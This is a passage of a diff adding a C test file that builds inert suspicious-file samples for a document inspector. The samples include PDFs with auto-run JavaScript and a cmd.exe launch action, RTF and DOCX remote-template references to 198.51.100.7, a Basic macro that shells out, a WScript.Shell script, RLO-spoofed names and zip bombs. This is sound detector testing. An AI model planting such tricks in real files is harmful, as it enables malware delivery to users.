@@ -1,0 +1,877 @@
+/* test-inspect.c - the suspect-file detectors on real samples built here.
+ *
+ * Every sample is made by the test itself: zips (plain, ZipCrypto, AES,
+ * bombs, nested) with libarchive's writer, OLE2 files with libgsf's
+ * writer, PDFs and RTF as byte strings, object streams with zlib.  Each
+ * case asserts the exact set of reasons, and a false-positive set of
+ * ordinary files must get none.  textenc cases assert exact ranges.
+ */
+#ifndef _GNU_SOURCE
+#define _GNU_SOURCE
+#endif
+#include "sanitize/inspect.h"
+#include "test/unit/tap.h"
+#include <archive.h>
+#include <archive_entry.h>
+#include <gsf/gsf.h>
+#include <locale.h>
+#include <stdlib.h>
+#include <sys/mman.h>
+#include <unistd.h>
+#include <zlib.h>
+
+/* ---------- helpers ---------- */
+
+static GByteArray *bytes(const void *p, size_t n)
+{
+	GByteArray *b = g_byte_array_sized_new((guint)n);
+	g_byte_array_append(b, p, (guint)n);
+	return b;
+}
+
+static GByteArray *str(const char *s)
+{
+	return bytes(s, strlen(s));
+}
+
+static int cmp_strp(const void *a, const void *b)
+{
+	return strcmp(*(char *const *)a, *(char *const *)b);
+}
+
+static char *set_of(const GPtrArray *reasons)
+{
+	char **v = g_new0(char *, reasons->len + 1);
+	for (guint i = 0; i < reasons->len; i++)
+		v[i] = g_ptr_array_index(reasons, i);
+	qsort(v, reasons->len, sizeof *v, cmp_strp);
+	char *s = g_strjoinv(",", v);
+	g_free(v);
+	return s;
+}
+
+static char *want_set(const char *want)
+{
+	char **v = g_strsplit(want, ",", -1);
+	if (!*want) {
+		g_strfreev(v);
+		return g_strdup("");
+	}
+	qsort(v, g_strv_length(v), sizeof *v, cmp_strp);
+	char *s = g_strjoinv(",", v);
+	g_strfreev(v);
+	return s;
+}
+
+/* ---------- samples: plain bytes ---------- */
+
+static const unsigned char pe_bytes[512] = {
+	[0] = 'M', [1] = 'Z', [0x3c] = 0x80,
+	[0x80] = 'P', [0x81] = 'E', [0x84] = 0x4c, [0x85] = 0x01,
+	[0x94] = 0xe0, [0x96] = 0x02, [0x97] = 0x01, [0x98] = 0x0b, [0x99] = 0x01,
+};
+static const unsigned char png_bytes[] = {
+	0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
+	0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde,
+};
+static const unsigned char jpeg_bytes[] = {
+	0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0,
+};
+static const unsigned char lnk_bytes[76] = {
+	'L', 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
+};
+static const unsigned char elf_bytes[128] = {
+	0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0,
+};
+static const unsigned char onenote_bytes[64] = {
+	0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3,
+};
+
+static GByteArray *s_pe(void) { return bytes(pe_bytes, sizeof pe_bytes); }
+static GByteArray *s_png(void) { return bytes(png_bytes, sizeof png_bytes); }
+static GByteArray *s_jpeg(void) { return bytes(jpeg_bytes, sizeof jpeg_bytes); }
+static GByteArray *s_lnk(void) { return bytes(lnk_bytes, sizeof lnk_bytes); }
+static GByteArray *s_elf(void) { return bytes(elf_bytes, sizeof elf_bytes); }
+static GByteArray *s_onenote(void) { return bytes(onenote_bytes, sizeof onenote_bytes); }
+static GByteArray *s_text(void) { return str("お世話になっております。\n資料を送付します。\n"); }
+static GByteArray *s_prose(void)
+{
+	return str("Note: begin 644 is a mode you give uuencode.\nbegin 644 is a mode\nthat's all\nend\n");
+}
+static GByteArray *s_csv(void) { return str("name,amount\n\"Tanaka\",1200\n\"Sato\",3400\n"); }
+static GByteArray *s_shell(void) { return str("#!/bin/sh\nrm -rf /tmp/x\n"); }
+static GByteArray *s_html(void) { return str("<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>location='x'</script></body></html>\n"); }
+
+/* ---------- samples: PDF ---------- */
+
+/* A PDF from its objects: header, objects, a trailer (no xref needed by
+ * the scan, and readers rebuild it). */
+static GByteArray *pdf_of(const char *objects, const char *trailer)
+{
+	GString *s = g_string_new("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
+	g_string_append(s, objects);
+	g_string_append_printf(s, "trailer\n%s\nstartxref\n0\n%%%%EOF\n", trailer ? trailer : "<< /Root 1 0 R /Size 4 >>");
+	GByteArray *b = bytes(s->str, s->len);
+	g_string_free(s, TRUE);
+	return b;
+}
+
+#define PDF_PAGES \
+	"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n" \
+	"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n" \
+	"4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 24 Tf 100 700 Td (Hello /JS) Tj ET\nendstream\nendobj\n"
+
+static GByteArray *s_pdf_clean(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" PDF_PAGES, NULL);
+}
+static GByteArray *s_pdf_open_dest(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>\nendobj\n" PDF_PAGES, NULL);
+}
+static GByteArray *s_pdf_open_goto_ref(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n" PDF_PAGES
+	              "5 0 obj\n<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>\nendobj\n", NULL);
+}
+static GByteArray *s_pdf_js(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
+	              PDF_PAGES, NULL);
+}
+static GByteArray *s_pdf_hex(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Names << /#4aavaScr#69pt 5 0 R >> >>\nendobj\n" PDF_PAGES
+	              "5 0 obj\n<< /Names [(a) 6 0 R] >>\nendobj\n", NULL);
+}
+static GByteArray *s_pdf_launch(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n" PDF_PAGES
+	              "5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n", NULL);
+}
+static GByteArray *s_pdf_embedded(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>\nendobj\n" PDF_PAGES
+	              "5 0 obj\n<< /Names [(a.exe) 6 0 R] >>\nendobj\n", NULL);
+}
+static GByteArray *s_pdf_encrypted(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" PDF_PAGES
+	              "9 0 obj\n<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>\nendobj\n",
+	              "<< /Root 1 0 R /Size 10 /Encrypt 9 0 R /ID [<00><00>] >>");
+}
+/* The catalog with /OpenAction and the JavaScript action inside a
+ * FlateDecode object stream, so nothing shows in the raw bytes. */
+static GByteArray *s_pdf_objstm(void)
+{
+	const char *objs = "1 0 5 67 "
+	                   "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>              \n"
+	                   "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>";
+	uLongf zlen = compressBound(strlen(objs));
+	unsigned char *z = g_malloc(zlen);
+	compress(z, &zlen, (const Bytef *)objs, strlen(objs));
+	GString *s = g_string_new("%PDF-1.7\n");
+	g_string_append(s, PDF_PAGES);
+	g_string_append_printf(s, "7 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %lu >>\nstream\n", (unsigned long)zlen);
+	g_string_append_len(s, (const char *)z, (gssize)zlen);
+	g_string_append(s, "\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
+	g_free(z);
+	GByteArray *b = bytes(s->str, s->len);
+	g_string_free(s, TRUE);
+	return b;
+}
+/* A string saying ">> stream" must not make the scan skip the objects
+ * after it as stream data. */
+static GByteArray *s_pdf_fake_stream(void)
+{
+	return pdf_of("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Title (>> stream\n) /OpenAction << /S /JavaScript /JS 6 0 R >> /Length 5 >>\nstream\nhello\nendstream\nendobj\n"
+	              PDF_PAGES, NULL);
+}
+
+/* ---------- samples: RTF ---------- */
+
+static GByteArray *s_rtf_clean(void) { return str("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 MS Mincho;}}\\f0 Hello \\par}\n"); }
+static GByteArray *s_rtf_object(void)
+{
+	return str("{\\rtf1\\ansi {\\object\\objemb\\objw100\\objh100 {\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b000000}}}\n");
+}
+static GByteArray *s_rtf_template(void)
+{
+	return str("{\\rtf1\\ansi {\\*\\template http://198.51.100.7/t.doc}Hello}\n");
+}
+static GByteArray *s_rtf_local_template(void)
+{
+	return str("{\\rtf1\\ansi {\\*\\template C:\\\\Users\\\\tanaka\\\\Normal.dotm}Hello}\n");
+}
+
+/* ---------- samples: archives (libarchive's writer) ---------- */
+
+typedef struct ent {
+	const char *name;
+	const void *data;   /* NULL with len > 0: that many zero bytes */
+	size_t len;
+	GByteArray *owned;  /* data from another builder, freed after */
+} ent;
+
+static la_ssize_t sink_write(struct archive *a, void *d, const void *buf, size_t n)
+{
+	(void)a;
+	g_byte_array_append(d, buf, (guint)n);
+	return (la_ssize_t)n;
+}
+
+enum afmt { A_ZIP, A_7Z, A_TARGZ, A_GZ, A_ISO };
+
+static GByteArray *archive_of(enum afmt fmt, const char *options, const ent *e, size_t n)
+{
+	static const unsigned char zeros[1 << 16];
+	/* names are UTF-8: write them under a UTF-8 locale, as a Japanese
+	 * Windows zip tool would store them with the UTF-8 flag */
+	locale_t loc = newlocale(LC_CTYPE_MASK, "C.UTF-8", (locale_t)0), old = uselocale(loc);
+	GByteArray *out = g_byte_array_new();
+	struct archive *a = archive_write_new();
+	switch (fmt) {
+	case A_ZIP: archive_write_set_format_zip(a); break;
+	case A_7Z: archive_write_set_format_7zip(a); break;
+	case A_TARGZ: archive_write_set_format_pax_restricted(a); archive_write_add_filter_gzip(a); break;
+	case A_GZ: archive_write_set_format_raw(a); archive_write_add_filter_gzip(a); break;
+	case A_ISO: archive_write_set_format_iso9660(a); break;
+	}
+	if (options) {
+		int r = archive_write_set_options(a, options);
+		if (r != ARCHIVE_OK)
+			fprintf(stderr, "# options %s: %s\n", options, archive_error_string(a));
+		archive_write_set_passphrase(a, "himitsu");
+	}
+	archive_write_set_bytes_in_last_block(a, 1);
+	archive_write_open(a, out, NULL, sink_write, NULL);
+	for (size_t i = 0; i < n; i++) {
+		struct archive_entry *ae = archive_entry_new();
+		archive_entry_set_pathname_utf8(ae, e[i].name);
+		size_t len = e[i].owned ? e[i].owned->len : e[i].len;
+		const void *data = e[i].owned ? e[i].owned->data : e[i].data;
+		bool dir = g_str_has_suffix(e[i].name, "/");
+		archive_entry_set_filetype(ae, dir ? AE_IFDIR : AE_IFREG);
+		archive_entry_set_perm(ae, dir ? 0755 : 0644);
+		archive_entry_set_size(ae, (la_int64_t)len);
+		archive_entry_set_mtime(ae, 1700000000, 0);
+		archive_write_header(a, ae);
+		for (size_t off = 0; off < len;) {
+			size_t k = data ? len - off : MIN(len - off, sizeof zeros);
+			archive_write_data(a, data ? (const char *)data + off : (const void *)zeros, k);
+			off += k;
+		}
+		archive_entry_free(ae);
+		if (e[i].owned)
+			g_byte_array_unref(e[i].owned);
+	}
+	archive_write_close(a);
+	archive_write_free(a);
+	uselocale(old);
+	freelocale(loc);
+	return out;
+}
+#define ZIP(...) archive_of(A_ZIP, NULL, (ent[]){ __VA_ARGS__ }, sizeof((ent[]){ __VA_ARGS__ }) / sizeof(ent))
+#define ARCH(fmt, opt, ...) archive_of(fmt, opt, (ent[]){ __VA_ARGS__ }, sizeof((ent[]){ __VA_ARGS__ }) / sizeof(ent))
+#define S(name, s) { name, s, sizeof s - 1, NULL }
+#define B(name, builder) { name, NULL, 0, builder() }
+
+static const char ct_docx[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+	"<Default Extension=\"png\" ContentType=\"image/png\"/>"
+	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
+	"<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
+	"</Types>";
+static const char ct_docm[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+	"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
+	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
+	"</Types>";
+static const char ct_xlsx[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+	"<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
+	"<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
+	"</Types>";
+static const char rels_root_docx[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
+	"</Relationships>";
+static const char rels_root_xlsx[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
+	"</Relationships>";
+/* a web hyperlink and a local template: both ordinary */
+static const char rels_doc_ordinary[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" Target=\"settings.xml\"/>"
+	"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.city.example.lg.jp/\" TargetMode=\"External\"/>"
+	"<Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"media/image1.png\"/>"
+	"</Relationships>";
+static const char rels_settings_local[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"file:///C:\\Users\\tanaka\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm\" TargetMode=\"External\"/>"
+	"</Relationships>";
+/* remote template injection, with TargetMode written as character references */
+static const char rels_settings_remote[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	"<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://198.51.100.7/t.dotm' TargetMode='&#69;xternal'/>"
+	"</Relationships>";
+static const char doc_xml[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>議事録</w:t></w:r></w:p></w:body></w:document>";
+static const char settings_xml[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>";
+static const char wb_xml[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\"/></sheets></workbook>";
+static const char sheet_xml[] =
+	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
+	"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row></sheetData></worksheet>";
+
+static GByteArray *s_pdf_clean2(void) { return s_pdf_clean(); }
+static GByteArray *s_ole_package(void);
+
+static GByteArray *s_docx(void)
+{
+	return ZIP(S("[Content_Types].xml", ct_docx), S("_rels/.rels", rels_root_docx),
+	           S("word/document.xml", doc_xml), S("word/settings.xml", settings_xml),
+	           S("word/_rels/document.xml.rels", rels_doc_ordinary),
+	           S("word/_rels/settings.xml.rels", rels_settings_local), B("word/media/image1.png", s_png));
+}
+static GByteArray *s_xlsx(void)
+{
+	return ZIP(S("[Content_Types].xml", ct_xlsx), S("_rels/.rels", rels_root_xlsx),
+	           S("xl/workbook.xml", wb_xml), S("xl/worksheets/sheet1.xml", sheet_xml));
+}
+static GByteArray *s_docx_remote(void)
+{
+	return ZIP(S("[Content_Types].xml", ct_docx), S("_rels/.rels", rels_root_docx),
+	           S("word/document.xml", doc_xml), S("word/settings.xml", settings_xml),
+	           S("word/_rels/settings.xml.rels", rels_settings_remote));
+}
+static GByteArray *s_docx_ole(void)
+{
+	return ZIP(S("[Content_Types].xml", ct_docx), S("_rels/.rels", rels_root_docx),
+	           S("word/document.xml", doc_xml), B("word/embeddings/oleObject1.bin", s_ole_package));
+}
+static GByteArray *s_docx_badxml(void)
+{
+	return ZIP(S("[Content_Types].xml", ct_docx), S("_rels/.rels", "<Relationships><Relationship"),
+	           S("word/document.xml", doc_xml));
+}
+/* libmagic calls a zip whose first entries are not OOXML-ish plain zip */
+static GByteArray *s_docm(void)
+{
+	return ZIP(S("_rels/.rels", rels_root_docx), S("word/document.xml", doc_xml),
+	           S("[Content_Types].xml", ct_docm), S("word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA"));
+}
+static GByteArray *s_xlsm_sheet(void)
+{
+	return ZIP(S("[Content_Types].xml", ct_xlsx), S("_rels/.rels", rels_root_xlsx),
+	           S("xl/workbook.xml", wb_xml), S("xl/macrosheets/sheet1.xml", sheet_xml));
+}
+static GByteArray *s_odt_basic(void)
+{
+	return ZIP(S("mimetype", "application/vnd.oasis.opendocument.text"),
+	           S("content.xml", "<office:document-content/>"),
+	           S("Basic/script-lc.xml", "<library:libraries/>"),
+	           S("Basic/Standard/Module1.xml", "<script:module>Sub Main\nShell \"calc\"\nEnd Sub</script:module>"));
+}
+static GByteArray *s_zip_pdfs(void)
+{
+	return ZIP(B("見積書.pdf", s_pdf_clean), B("請求書.pdf", s_pdf_clean2), S("資料/", ""));
+}
+static GByteArray *s_zip_exe(void) { return ZIP(B("資料/setup.exe", s_pe)); }
+static GByteArray *s_zip_double(void) { return ZIP(B("invoice.pdf.exe", s_png)); }
+static GByteArray *s_zip_fullwidth(void) { return ZIP(S("請求書．ｊｓ", "WScript.Echo(1)\n")); }
+static GByteArray *s_zip_pdf_js(void) { return ZIP(B("a.pdf", s_pdf_js)); }
+static GByteArray *s_zip_docm(void) { return ZIP(B("会議資料.docm", s_docm)); }
+static GByteArray *s_zip_exe_as_pdf(void) { return ZIP(B("invoice.pdf", s_pe)); }
+static GByteArray *s_zipcrypt(void)
+{
+	return ARCH(A_ZIP, "zip:encryption=zipcrypt", B("見積書.pdf", s_pdf_clean));
+}
+static GByteArray *s_zipcrypt_exe(void)
+{
+	return ARCH(A_ZIP, "zip:encryption=zipcrypt", B("見積書.pdf", s_pdf_clean), B("見積書.exe", s_pe));
+}
+static GByteArray *s_zipaes(void)
+{
+	return ARCH(A_ZIP, "zip:encryption=aes256", B("見積書.xlsx", s_xlsx));
+}
+static GByteArray *s_zip_bomb(void)
+{
+	return ZIP({ "zeros.bin", NULL, 50u << 20, NULL });
+}
+/* 2 MiB that do not compress */
+static GByteArray *s_zip_random(void)
+{
+	GByteArray *r = g_byte_array_sized_new(2u << 20);
+	guint32 x = 2463534242u;
+	for (unsigned i = 0; i < (2u << 20); i++) {
+		x ^= x << 13, x ^= x >> 17, x ^= x << 5;  /* xorshift32 */
+		g_byte_array_append(r, (const guint8 *)&x, 1);
+	}
+	return archive_of(A_ZIP, NULL, (ent[]){ { "noise.bin", NULL, 0, r } }, 1);
+}
+/* compresses a thousand times, but is small: an ordinary blank sheet */
+static GByteArray *s_zip_small_zeros(void) { return ZIP({ "blank.csv", NULL, 900u << 10, NULL }); }
+static GByteArray *s_zip_nest2(void) { return ZIP(B("inner.zip", s_zip_exe)); }
+static GByteArray *s_zip_nest3(void) { return ZIP(B("inner2.zip", s_zip_nest2)); }
+static GByteArray *s_zip_nest4(void) { return ZIP(B("inner3.zip", s_zip_nest3)); }
+static GByteArray *s_zip_many(void)
+{
+	ent e[12];
+	char names[12][16];
+	for (int i = 0; i < 12; i++) {
+		snprintf(names[i], sizeof names[i], "f%02d.txt", i);
+		e[i] = (ent){ names[i], "x", 1, NULL };
+	}
+	return archive_of(A_ZIP, NULL, e, 12);
+}
+static GByteArray *s_zip_truncated(void)
+{
+	GByteArray *b = s_zip_pdfs();
+	g_byte_array_set_size(b, b->len / 2);
+	return b;
+}
+static GByteArray *s_zip_rlo(void) { return ZIP(S("report\xe2\x80\xae" "fdp.scr", "MZ")); }
+static GByteArray *s_targz_exe(void) { return ARCH(A_TARGZ, NULL, B("a/b/tool.exe", s_pe), S("a/readme.txt", "hello\n")); }
+static GByteArray *s_7z_js(void) { return ARCH(A_7Z, NULL, S("invoice.js", "var s = new ActiveXObject('WScript.Shell');\n")); }
+static GByteArray *s_gz_pe(void) { return ARCH(A_GZ, NULL, B("data", s_pe)); }
+static GByteArray *s_iso_exe(void) { return ARCH(A_ISO, NULL, B("SETUP.EXE", s_pe), S("README.TXT", "hello\n")); }
+static GByteArray *s_targz_clean(void) { return ARCH(A_TARGZ, NULL, B("docs/a.pdf", s_pdf_clean), S("docs/readme.txt", "hello\n")); }
+static GByteArray *s_zip_iso_name(void) { return ZIP(S("disk.iso", "not really")); }
+
+/* ---------- samples: OLE2 (libgsf's writer) ---------- */
+
+typedef struct oent {
+	const char *path;   /* "Storage/Sub/stream"; storages are made as needed */
+	const void *data;
+	size_t len;
+} oent;
+
+static GByteArray *ole_of(const oent *e, size_t n)
+{
+	GsfOutput *mem = gsf_output_memory_new();
+	GsfOutfile *root = gsf_outfile_msole_new(mem);
+	GHashTable *dirs = g_hash_table_new_full(g_str_hash, g_str_equal, g_free, NULL);
+	GPtrArray *order = g_ptr_array_new();
+	for (size_t i = 0; i < n; i++) {
+		char **parts = g_strsplit(e[i].path, "/", -1);
+		guint np = g_strv_length(parts);
+		GsfOutfile *dir = root;
+		GString *p = g_string_new(NULL);
+		for (guint k = 0; k + 1 < np; k++) {
+			g_string_append_printf(p, "/%s", parts[k]);
+			GsfOutfile *d = g_hash_table_lookup(dirs, p->str);
+			if (!d) {
+				d = GSF_OUTFILE(gsf_outfile_new_child(dir, parts[k], TRUE));
+				g_hash_table_insert(dirs, g_strdup(p->str), d);
+				g_ptr_array_add(order, d);
+			}
+			dir = d;
+		}
+		if (*parts[np - 1]) {
+			GsfOutput *s = gsf_outfile_new_child(dir, parts[np - 1], FALSE);
+			gsf_output_write(s, e[i].len, e[i].data);
+			gsf_output_close(s);
+			g_object_unref(s);
+		}
+		g_string_free(p, TRUE);
+		g_strfreev(parts);
+	}
+	for (guint i = order->len; i-- > 0;) {
+		gsf_output_close(g_ptr_array_index(order, i));
+		g_object_unref(g_ptr_array_index(order, i));
+	}
+	gsf_output_close(GSF_OUTPUT(root));
+	GByteArray *b = bytes(gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(mem)), (size_t)gsf_output_size(mem));
+	g_object_unref(root);
+	g_object_unref(mem);
+	g_hash_table_unref(dirs);
+	g_ptr_array_unref(order);
+	return b;
+}
+#define OLE(...) ole_of((oent[]){ __VA_ARGS__ }, sizeof((oent[]){ __VA_ARGS__ }) / sizeof(oent))
+
+static const unsigned char fib_plain[64] = { 0xec, 0xa5, 0xc1, 0x00 };
+static const unsigned char fib_encrypted[64] = { 0xec, 0xa5, 0xc1, 0x00, [11] = 0x01 };
+static const unsigned char compobj[] = { 1, 0, 0xfe, 0xff, 3, 0x0a, 0, 0 };
+/* BIFF8 globals: BOF, BOUNDSHEET (type DT), EOF */
+#define BIFF(dt) { 0x09, 0x08, 16, 0, 0, 6, 5, 0, [20] = 0x85, 0, 14, 0, 0, 0, 0, 0, 0, dt, 6, 0, 'S', 'h', 'e', 'e', 't', '1', 0x0a, 0, 0, 0 }
+static const unsigned char biff_plain[] = BIFF(0);
+static const unsigned char biff_xlm[] = BIFF(1);
+static const unsigned char biff_filepass[] = { 0x09, 0x08, 16, 0, 0, 6, 5, 0, [20] = 0x2f, 0, 2, 0, 0, 0, 0x0a, 0, 0, 0 };
+/* "請求書.exe" in UTF-16LE */
+static const unsigned char att_name[] = { 0xcb, 0x8a, 0x42, 0x6c, 0xf8, 0x66, '.', 0, 'e', 0, 'x', 0, 'e', 0, 0, 0 };
+
+static GByteArray *s_doc_clean(void)
+{
+	return OLE({ "\001CompObj", compobj, sizeof compobj }, { "WordDocument", fib_plain, sizeof fib_plain },
+	           { "1Table", "\0\0\0\0", 4 });
+}
+static GByteArray *s_doc_vba(void)
+{
+	return OLE({ "\001CompObj", compobj, sizeof compobj }, { "WordDocument", fib_plain, sizeof fib_plain },
+	           { "Macros/VBA/dir", "\x01\x00\x00", 3 }, { "Macros/VBA/ThisDocument", "Attribute", 9 },
+	           { "Macros/PROJECT", "ID=\"{}\"", 7 });
+}
+static GByteArray *s_doc_encrypted(void)
+{
+	return OLE({ "WordDocument", fib_encrypted, sizeof fib_encrypted }, { "1Table", "\0\0\0\0", 4 });
+}
+static GByteArray *s_doc_package(void)
+{
+	return OLE({ "WordDocument", fib_plain, sizeof fib_plain },
+	           { "ObjectPool/_1234567890/\001Ole10Native", "\x10\0\0\0a.exe\0", 10 },
+	           { "ObjectPool/_1234567890/\001CompObj", compobj, sizeof compobj });
+}
+static GByteArray *s_ole_package(void)
+{
+	return OLE({ "\001Ole10Native", "\x10\0\0\0a.exe\0", 10 }, { "\001CompObj", compobj, sizeof compobj });
+}
+static GByteArray *s_xls_clean(void) { return OLE({ "Workbook", biff_plain, sizeof biff_plain }); }
+static GByteArray *s_xls_xlm(void) { return OLE({ "Workbook", biff_xlm, sizeof biff_xlm }); }
+static GByteArray *s_xls_vba(void)
+{
+	return OLE({ "Workbook", biff_plain, sizeof biff_plain }, { "_VBA_PROJECT_CUR/VBA/dir", "\x01", 1 });
+}
+static GByteArray *s_xls_filepass(void) { return OLE({ "Workbook", biff_filepass, sizeof biff_filepass }); }
+static GByteArray *s_docx_encrypted(void)
+{
+	return OLE({ "EncryptionInfo", "\x04\x00\x04\x00\x40\x00\x00\x00", 8 },
+	           { "EncryptedPackage", "\x10\0\0\0\0\0\0\0 0123456789abcdef", 24 });
+}
+static GByteArray *s_msg_exe(void)
+{
+	GByteArray *pe = s_pe();
+	GByteArray *b = OLE({ "__substg1.0_0037001F", "S\0u\0b\0", 6 },
+	                    { "__attach_version1.0_#00000000/__substg1.0_3707001F", att_name, sizeof att_name },
+	                    { "__attach_version1.0_#00000000/__substg1.0_37010102", pe->data, pe->len });
+	g_byte_array_unref(pe);
+	return b;
+}
+static GByteArray *s_msg_pdf(void)
+{
+	GByteArray *pdf = s_pdf_clean();
+	GByteArray *b = OLE({ "__substg1.0_0037001F", "S\0u\0b\0", 6 },
+	                    { "__attach_version1.0_#00000000/__substg1.0_3707001F", "a\0.\0p\0d\0f\0", 10 },
+	                    { "__attach_version1.0_#00000000/__substg1.0_37010102", pdf->data, pdf->len });
+	g_byte_array_unref(pdf);
+	return b;
+}
+static GByteArray *s_zip_doc_vba(void) { return ZIP(B("旧様式.doc", s_doc_vba)); }
+
+/* ---------- the cases ---------- */
+
+typedef struct fcase {
